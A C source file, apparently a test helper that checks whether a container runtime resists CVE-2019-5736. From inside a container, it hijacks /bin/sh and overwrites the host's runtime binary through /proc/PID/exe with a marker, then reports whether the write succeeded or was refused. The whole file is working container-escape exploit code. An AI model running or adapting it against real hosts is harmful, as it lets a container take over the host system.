/* A hostile container process for CVE-2019-5736: it gets hold of the runtime's binary
 * through /proc/PID/exe and tries to overwrite it once nothing executes it any more.
 *
 *   exe_overwrite trap DIR    replace /bin/sh with `#!/proc/self/exe --log=/fifo`, so
 *                             that the next `exec C sh` runs the runtime binary in here,
 *                             blocked on opening the FIFO; catch it there.
 *   exe_overwrite ptrace DIR  open /proc/1/exe (a created init of another container in
 *                             our pid namespace; needs CAP_SYS_PTRACE).
 * Writes DIR/ready when armed, then DIR/result: "found PID", "link ...", and a last line
 * "wrote N" (the binary was overwritten) or "refused open|write: ERROR". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static FILE *out;

static void nap(void)
{
	struct timespec ts = {0, 10 * 1000 * 1000};
	nanosleep(&ts, NULL);
}

static void touch(const char *dir, const char *name)
{
	char p[4096];
	snprintf(p, sizeof(p), "%s/%s", dir, name);
	close(open(p, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
}

/* the pid of a process whose argv[1] is want (the hijacked runtime), or 0 */
static int find(const char *want)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int found = 0;
	while (d && !found && (e = readdir(d))) {
		char p[300], buf[256] = "";
		int pid = atoi(e->d_name);
		if (pid <= 0 || pid == getpid())
			continue;
		snprintf(p, sizeof(p), "/proc/%d/cmdline", pid);
		int fd = open(p, O_RDONLY | O_CLOEXEC);
		ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof(buf) - 1);
		if (fd >= 0)
			close(fd);
		if (n > 0 && strcmp(buf + strlen(buf) + 1, want) == 0)
			found = pid;
	}
	if (d)
		closedir(d);
	return found;
}

static int arm_trap(void)
{
	unlink("/bin/sh");
	int fd = open("/bin/sh", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	const char script[] = "#!/proc/self/exe --log=/fifo\n";
	if (fd < 0 || write(fd, script, sizeof(script) - 1) < 0 || close(fd) < 0)
		return -1;
	unlink("/fifo");
	return mkfifo("/fifo", 0600);
}

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	const char *dir = argv[2];
	char path[4096];
	snprintf(path, sizeof(path), "%s/result", dir);
	int trap = strcmp(argv[1], "trap") == 0;
	if (trap && arm_trap() < 0) {
		perror("arming the trap");
		return 1;
	}
	touch(dir, "ready");
	int pid = trap ? 0 : 1;
	for (int i = 0; trap && !pid && i < 6000; i++, nap())
		pid = find("--log=/fifo");
	out = fopen(path, "we");
	if (!out || !pid) {
		if (out)
			fprintf(out, "refused: no runtime process caught\n");
		return 1;
	}
	setvbuf(out, NULL, _IOLBF, 0);
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	int exe = open(path, O_PATH | O_CLOEXEC);
	if (exe < 0) {
		fprintf(out, "refused open: %s\n", strerror(errno));
		return 0;
	}
	fprintf(out, "found %d\n", pid);
	char link[4096] = "";
	snprintf(path, sizeof(path), "/proc/self/fd/%d", exe);
	if (readlink(path, link, sizeof(link) - 1) > 0)
		fprintf(out, "link %s\n", link);
	if (trap) {
		/* let it go: the runtime logs to the FIFO and exits */
		int fifo = open("/fifo", O_RDONLY | O_CLOEXEC);
		char buf[512];
		while (fifo >= 0 && read(fifo, buf, sizeof(buf)) > 0)
			;
	}
	/* the file is busy (ETXTBSY) while anything executes it: wait for that to end */
	int fd = -1;
	for (int i = 0; i < 2000; i++, nap()) {
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0 || errno != ETXTBSY)
			break;
	}
	if (fd < 0) {
		fprintf(out, "refused open: %s\n", strerror(errno));
		return 0;
	}
	ssize_t n = pwrite(fd, "PWNED", 5, 0);
	if (n < 0)
		fprintf(out, "refused write: %s\n", strerror(errno));
	else
		fprintf(out, "wrote %zd\n", n);
	return 0;
}
